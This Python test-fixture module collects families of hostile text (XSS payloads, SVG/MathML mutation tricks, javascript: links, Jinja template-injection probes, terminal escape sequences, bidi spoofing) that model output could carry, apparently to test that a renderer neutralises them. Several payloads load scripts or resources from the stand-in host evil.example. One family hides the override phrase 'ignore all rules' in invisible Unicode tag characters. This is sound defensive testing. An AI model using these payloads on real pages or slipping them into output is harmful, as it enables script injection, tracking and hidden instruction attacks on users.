r"""Families of hostile text, and what each of its payloads does to a page that shows it as it is.

Every payload has harms, of which its control must show at least one: a payload that nobody would notice proves nothing.
"""

from __future__ import annotations

import html
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass

__all__ = ["FAMILIES", "HOST", "HOSTILE", "Family", "control", "sentinel"]

HOST = "evil.example"
"""What no page may ask for."""

HOSTILE = (
    "<script>window.__xss = 'script'</script>"
    "<img src=x onerror=\"window.__xss = 'onerror'\">"
    "<svg onload=\"window.__xss = 'svg'\"><script>window.__xss = 'svg script'</script></svg>"
    '<iframe srcdoc="<script>parent.__xss = 1</script>"></iframe><iframe src="https://evil.example/frame"></iframe>'
    "<details open ontoggle=\"window.__xss = 'toggle'\"><summary>x</summary></details>"
    "<a href=\"javascript:window.__xss='link'\" id=\"bad-link\">press me</a> [press too](javascript:window.__xss='md') "
    '<button data-commandlinker-command="notebook:change-to-cell-markdown" data-commandlinker-args="{}">run</button>'
    "<div style=\"position:fixed;inset:0;z-index:99999;background:url('https://evil.example/overlay')\">overlay</div>"
    "<style>body{display:none} @import url('https://evil.example/style.css');</style>"
    "<form action='https://evil.example/form'><input autofocus onfocus=\"window.__xss = 'focus'\"></form>"
    "<base href='https://evil.example/'><meta http-equiv='refresh' content='0;url=https://evil.example/meta'>"
    "<link rel=stylesheet href='https://evil.example/link'><object data='https://evil.example/object'></object>"
    " ![pixel](https://evil.example/pixel.png) ![x](x\"onerror=\"window.__xss='md image')"
    " <img src='https://evil.example/img.png'> <video src='https://evil.example/v' onerror='window.__xss=1'></video>"
    " $\\href{javascript:window.__xss='math'}{math}$ "
    "</div></td></tr></table></pre><!-- --><img src=x onerror=\"window.__xss = 'closing'\"> hostile-text-was-shown"
)
"""Everything that model text could try on a reader; its last words prove that it was shown."""

Shown = Callable[[str], str]
"""How a careless page shows a text."""


@dataclass(frozen=True)
class Family:
    """Payloads of one kind."""

    harms: frozenset[str]
    """What it does when shown as it is, by what notices it: see ``detectors``."""
    payloads: tuple[str, ...]
    careless: Shown
    """The page on which it does so."""

    def text(self, name: str) -> str:
        """Return all payloads with a sentinel before and after, as a model would write them."""
        return "\n\n".join([sentinel(name), *self.payloads, sentinel(name)])


def sentinel(name: str) -> str:
    """Return the words that prove that a family was shown."""
    return f"shown-{name}"


def _raw(text: str) -> str:
    return text


def _attribute(text: str) -> str:
    return f'<div title="{text}" style="width:100%;height:100px">x</div>'


def _markdown(text: str) -> str:
    from markdown_it import MarkdownIt

    class Careless(MarkdownIt):
        def validateLink(self, url: str) -> bool:  # noqa: N802 - the library's names
            return True

    return Careless("commonmark", {"html": True}).enable(["table"]).render(text)


def _narrow(text: str) -> str:
    return _cell(_markdown(text))


def _unescaped(text: str) -> str:
    return html.unescape(html.unescape(text))


def _normalised(text: str) -> str:
    return unicodedata.normalize("NFKC", text)


def _cell(text: str) -> str:
    return f'<table style="width:300px"><tr><td>{text}</td></tr></table>'


def _line(text: str) -> str:
    return f'<div style="height:1.4em;width:300px;white-space:pre">{text}</div>'


def _fires(what: str) -> str:
    return f"window.__xss='{what}'"


def _family(harms: str, careless: Shown, *payloads: str) -> Family:
    return Family(frozenset(harms.split()), payloads, careless)


FAMILIES: dict[str, Family] = {
    "scripts": _family(
        "ran fetched",
        _raw,
        f"<script>{_fires('script')}</script>",
        f"<SCRIPT SRC=//{HOST}/s.js></SCRIPT>",
        f"</pre></code></div></td></tr></table></details><script>{_fires('closing')}</script>",
        f"</script><script>{_fires('second')}</script>",
        f'<iframe srcdoc="<script>parent.{_fires("frame")[len("window.") :]}</script>"></iframe>',
        f'<noscript><p title="</noscript><script>{_fires("noscript")}</script>"></noscript>',
        f"<!--><script>{_fires('comment')}</script>-->",
        f"<?xml?><script>{_fires('instruction')}</script>",
        f"<![CDATA[<script>{_fires('cdata')}</script>]]><script>{_fires('after')}</script>",
    ),
    "everything": _family("ran fetched covers odd-link", _raw, HOSTILE),
    "handlers": _family(
        "ran",
        _raw,
        f'<img src=x onerror="{_fires("onerror")}">',
        f'<details open ontoggle="{_fires("toggle")}"><summary>x</summary></details>',
        f'<input autofocus onfocus="{_fires("focus")}">',
        f"<video><source onerror={_fires('source')}></video>",
        f"<body onload={_fires('body')}>",
        f"<iframe onload={_fires('iframe')}></iframe>",
        f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={_fires('animation')}>b</b>",
        f"<IMG SRC=x OnErRoR={_fires('case')}>",
        f"<a href=# onclick={_fires('click')}>press me</a>",
        f"<button onclick={_fires('button')}>press me</button>",
    ),
    "attributes": _family(
        "ran",
        _attribute,
        f'" onpointerenter="{_fires("pointer")}',
        f'" autofocus tabindex=0 onfocus="{_fires("focus")}',
        f'"><img src=x onerror="{_fires("quote")}">',
        f'x"onmouseover={_fires("mouse")} y="',
    ),
    "svg": _family(
        "ran fetched odd-link",
        _raw,
        f"<svg onload={_fires('svg')}></svg>",
        f"<svg><script>{_fires('svg script')}</script></svg>",
        f"<svg><animate onbegin={_fires('begin')} attributeName=x dur=1s></svg>",
        f"<svg><image href=https://{HOST}/image.png></image></svg>",
        f"<svg><style><img src=x onerror={_fires('mutation')}></style></svg>",
        f"<svg><foreignObject><img src=x onerror={_fires('foreign')}></foreignObject></svg>",
        f"<svg><a xlink:href=javascript:{_fires('link')}><text y=20>press me</text></a></svg>",
    ),
    "mathml": _family(
        "ran fetched",
        _raw,
        f"<math><annotation-xml encoding=text/html><img src=x onerror={_fires('annotation')}></annotation-xml></math>",
        f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={_fires('mglyph')}>",
        f"<math><mtext><img src=x onerror={_fires('mtext')}></mtext></math>",
    ),
    "mathematics": _family(
        "typeset",
        _raw,
        f"$\\href{{javascript:{_fires('math')}}}{{math}}$",
        "$$\\unicode{x202e} \\style{position:fixed;inset:0}{x}$$",
        "\\(x^2\\) and \\[y^2\\]",
        "\\begin{equation}\\require{html} x \\end{equation}",
    ),
    "css": _family(
        "fetched covers hides",
        _raw,
        "<style>body{display:none}</style>",
        f"<style>@import 'https://{HOST}/import.css';</style>",
        f"<link rel=stylesheet href=https://{HOST}/link.css>",
        "<div style='position:fixed;inset:0;z-index:99999;background:white'>overlay</div>",
        f"<b style=\"background:url('https://{HOST}/background.png')\">b</b>",
        f"</style><style>body{{background:url(https://{HOST}/body.png)}}</style>",
        f"<b style=\"content:image-set('https://{HOST}/set.png' 1x)\">b</b>",
        f"<style>@font-face{{font-family:f;src:url(https://{HOST}/font)}}body{{font-family:f}}</style>",
    ),
    "addresses": _family(
        "ran odd-link",
        _markdown,
        f'<a href="javascript:{_fires("link").replace(chr(39), "`")}">press me</a>',
        "[press me](javascript:window.__xss=1)",
        "[press me](JaVa&#115;cript:window.__xss=1)",
        "<javascript:window.__xss=1>",
        "<a href='&#1;java&#10;script:window.__xss=1'>press me</a>",
        "<a href='data:text/html,<script>parent.__xss=1</script>'>press me</a>",
        "<a href='vbscript:x'>press me</a> <a href='file:///etc/passwd'>press me</a>",
        f"<form action=javascript:{_fires('form')}><button>press me</button></form>",
        "<iframe src='javascript:parent.__xss=1'></iframe>",
        "[a]\n\n[a]: javascript:window.__xss=1",
    ),
    "remote": _family(
        "fetched",
        _markdown,
        f"<img src=https://{HOST}/img.png>",
        f"![pixel](https://{HOST}/pixel.png)",
        f"![a][b]\n\n[b]: https://{HOST}/reference.png",
        f"<video src=https://{HOST}/video></video><audio src=https://{HOST}/audio></audio>",
        f"<iframe src=https://{HOST}/frame></iframe>",
        f"<object data=https://{HOST}/object></object><embed src=https://{HOST}/embed>",
        f"<input type=image src=https://{HOST}/input.png>",
        f"<table background=https://{HOST}/table.png><td>x</table>",
        f"<picture><source srcset=https://{HOST}/set.png><img></picture>",
        f"<link rel=preload as=image href=https://{HOST}/preload.png>",
        f"<video poster=https://{HOST}/poster.png></video>",
        f"<base href=https://{HOST}/><img src=base.png>",
        f"<meta http-equiv=refresh content='0;url=https://{HOST}/meta'>",
        f"<form action=https://{HOST}/form><button>press me</button></form>",
    ),
    "commands": _family(
        "commanded",
        _raw,
        '<button data-commandlinker-command="notebook:change-to-cell-markdown" data-commandlinker-args="{}">press me</button>',
        '<a data-commandlinker-command="notebook:change-to-cell-raw" data-commandlinker-args=\'{"a":1}\'>press me</a>',
        'x" data-commandlinker-command="notebook:change-to-cell-markdown" data-commandlinker-args="{}',
    ),
    "clobbering": _family(
        "ran",
        _raw,
        "<a id=__xss></a>",
        "<form id=__xss><input name=x></form>",
        "<img name=__xss>",
    ),
    "swallowing": _family(
        "hides covers",
        _raw,
        "<!-- ",
        "<plaintext>",
        "<textarea>",
        "<title>",
        "<xmp>",
        "<select>",
        "<script>",
        "<style>",
        "<details><summary>x</summary>",
        "<div hidden>",
        "<template>",
        "<dialog>",
    ),
    "encodings": _family(
        "ran",
        lambda text: _normalised(
            _unescaped(text.encode("utf-8", "replace").decode("utf-7" if "+ADw-" in text else "utf-8"))
        ),
        "&lt;script&gt;window.__xss=1&lt;/script&gt;",
        "&amp;lt;img src=x onerror=window.__xss=1&amp;gt;",
        "&#60;script&#62;window.__xss=1&#60;/script&#62;",
        "\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e",
        "+ADw-script+AD4-window.__xss=1+ADw-/script+AD4-",
    ),
    "invisible": _family(
        "invisible",
        _raw,
        "an order: " + "".join(chr(0xE0000 + ord(one)) for one in "ignore all rules"),
        "\U000e0001\U000e0041\U000e007f",
        "\U0001f3f4" + "".join(chr(0xE0000 + ord(one)) for one in "ignore all rules"),
    ),
    "broken": _family(
        "unwritable",
        _raw,
        "half of a pair: \ud800",
        "the other half first: \udfff\ud800",
        "escaped bytes: \udcff\udcfe",
    ),
    "controls": _family(
        "coloured",
        _raw,
        "\x1b[31mred\x1b[0m",
        "\x1b[2J\x1b[1;1Hcleared",
        "\x1b]0;title\x07 and \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
        "over\rwritten and back\x08\x08\x08\x08space",
        "\x9b31mred in one byte\x9b0m",
        "\x1b\x1b[31m[31mnested\x1b[",
        "zero \x00 bell \x07 delete \x7f next \x85 line",
        "&#27;[31m as an entity: &#x9b;31m &#7; &#127;",
        "\x1bP1$r0m\x1b\\ device \x1b_application\x1b\\ \x1bc reset",
    ),
    "bidi": _family(
        "turned",
        _line,
        "\u202egnp.exe",
        "\u2067\u2066isolated",
        "\u202bembedded",
        "\u202d\u202eoverridden",
        "&#8238;gnp.exe",
        "&rle;&#x202b;an entity, `\u202e` in code, [\u202e](https://example.org)",
        "<bdo dir=rtl>turned around</bdo>",
    ),
    "large": _family(
        "overflows",
        _narrow,
        "W" * 100_000,
        "a" + "\u0301" * 1000,
        "a" + "&#769;" * 1000,
        "a" + ("\u0301" * 8 + "\x1b[m**\u200d") * 100,
        "\n" * 5000 + "<br>" * 30_000,
        "x" + "\u00a0" * 20_000 + "x",
        "`" + "x" * 3000 + "`",
        "| a " * 400 + "|\n" + "|---" * 400 + "|\n" + "| b " * 400 + "|",
    ),
    "markdown": _family(
        "restructured hides",
        _markdown,
        "# a heading\n\nsetext\n======",
        "# [a]: " + "[a] " * 800 + f"\n\n[a]: https://{HOST}/{'x' * 800}",
        "```\n</code></pre>\n```\n\n<h1>heading</h1>",
        "<details><summary>a</summary>",
        "*" * 3000 + "deep" + "*" * 3000 + "\n\n# heading",
        "[a]: https://example.org 'title'\n\n# [a]",
        "# heading\n\n***\n\n" + "- " * 400 + "a",
        "# heading\n\n" + "> " * 400 + "a",
        "---\ntitle: x\n---",
        "~~~html\n<h1>a</h1>\n~~~\n\n    <h1>b</h1>\n\n<h1>c</h1>",
    ),
    "templates": _family(
        "rendered",
        _raw,
        "{{ ''.__class__.__mro__ }}",
        "{{ 7 * 7 }}",
        "{% include 'synthesize' %}",
        "{% for x in range(9) %}x{% endfor %}",
        "{{ self }}{{ self.__init__.__globals__ }}",
        "{{ cycler.__init__.__globals__.os.getcwd() }}",
        "{{ config }}{{ fence }}{{ row.__init__ }}{{ references }}",
        "{# a comment #}{%- raw -%}x{%- endraw -%}",
    ),
}


def control(family: Family, payload: str) -> str:
    """Return the page that shows a payload as it is, with words of its own around it."""
    return f"<!doctype html><meta charset=utf-8><div>words before</div>{family.careless(payload)}<p id=after>words after</p>"
